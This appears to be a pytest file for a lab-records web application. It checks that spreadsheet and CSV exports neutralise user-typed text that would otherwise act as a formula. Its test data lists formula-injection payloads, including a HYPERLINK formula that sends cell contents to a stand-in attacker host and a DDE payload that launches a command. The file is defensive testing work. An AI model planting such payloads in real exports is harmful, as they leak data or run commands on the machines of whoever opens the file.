"""Exports never carry a live formula (issue 12, "Exports"): a text starting with = + - @ (or a
tab / CR) is written neutralised in every xlsx and csv; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from conftest import run
from metrolab.engine.documents.cells import safe_cell, unquote_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
ATTACKS += ["\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_text_is_written_as_text(text):
    cell = safe_cell(text)
    assert cell == "'" + text and unquote_cell(cell) == text


@pytest.mark.parametrize("value", [-5, Decimal("-0.12"), 3.5, 0, None, True, date(2026, 1, 2)])
def test_numbers_and_other_values_stay_what_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-0.12", "+3", "1e5", "JY-2024-0001", "合格", "", "a=b"])
def test_plain_texts_and_numbers_written_as_text_are_left_alone(text):
    assert safe_cell(text) == text


def test_characters_xml_forbids_are_dropped_so_the_export_does_not_fail():
    assert safe_cell("A\x00B\x1fC\x07") == "ABC"


def _no_formulas(book_bytes: bytes) -> list:
    book = load_workbook(io.BytesIO(book_bytes))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


@pytest.fixture
def types(db):
    from metrolab.indicators.services import seed_instrument_types

    run(seed_instrument_types())


def test_ledger_xlsx_and_csv_neutralise_what_users_typed(types, browser, make_user):
    from metrolab.customers.tables import Customer
    from metrolab.ledger import services

    evil = ATTACKS[0]
    row = Customer(name=evil, category="加油站", address="淄博", phone="0533")
    run(row.save())
    clean, errors = services.check_instrument(
        {
            "instrument_type": "fuel_dispenser",
            "serial": "-2+3",
            "model": "@SUM(A1:A9)",
            "location": "=1+1",
            "nozzles": "4",
            "compulsory": "default",
        },
        run(services.instrument_types()),
    )
    assert not errors, errors
    run(services.save_instrument(row.id, clean))
    browser.login(make_user("verifier"))

    values = _no_formulas(browser.get("/ledger/export.xlsx").content)
    for text in (evil, "-2+3", "@SUM(A1:A9)", "=1+1"):
        assert "'" + text in values and text not in values
    assert 4 in values  # the nozzles: still a number

    lines = list(
        csv.reader(io.StringIO(browser.get("/ledger/export.csv").content.decode("utf-8-sig")))
    )
    header, data = lines[0], lines[1]
    assert data[header.index("客户")] == "'" + evil
    assert data[header.index("出厂编号")] == "'-2+3" and data[header.index("枪数")] == "4"

    dossier = _no_formulas(browser.get(f"/ledger/customers/{row.id}/export.xlsx").content)
    assert "'" + evil in dossier  # the statistics sheet names the customer too

    notice = browser.get(f"/ledger/customers/{row.id}/notice.xlsx")
    assert notice.status_code == 200
    _no_formulas(notice.content)


def test_statistics_exports_neutralise_group_names_and_keep_numbers(db, browser, make_user):
    from metrolab.certificates.tables import Certificate
    from metrolab.customers.tables import Customer

    async def go() -> None:
        customer = Customer(name="=2+5")
        await customer.save()
        await Certificate.insert(
            Certificate(
                number="JD-EXPORT-1",
                instrument_type="fuel_dispenser",
                customer=customer.id,
                verified_on=date(2026, 3, 5),
                conclusion="合格",
                status="issued",
                issued_at=datetime.now(UTC),
            )
        )

    run(go())
    browser.login(make_user("signatory"))
    xlsx = browser.get("/statistics", params={"group": "customer", "format": "xlsx"})
    assert xlsx.status_code == 200
    values = _no_formulas(xlsx.content)
    assert "'=2+5" in values and "=2+5" not in values and 1 in values
    text = browser.get("/statistics", params={"group": "customer", "format": "csv"})
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert rows[1][:2] == ["'=2+5", "1"]


def test_statistics_writers_keep_negative_numbers_numbers():
    from metrolab.statistics.exports import csv_text, xlsx_bytes

    body = [["=cmd", -3, Decimal("-0.5")]]
    values = _no_formulas(xlsx_bytes("统计", ["键", "a", "b"], body))
    assert values[3:] == ["'=cmd", -3, -0.5]
    assert csv_text(["键"], body).splitlines()[1] == "'=cmd,-3,-0.5"
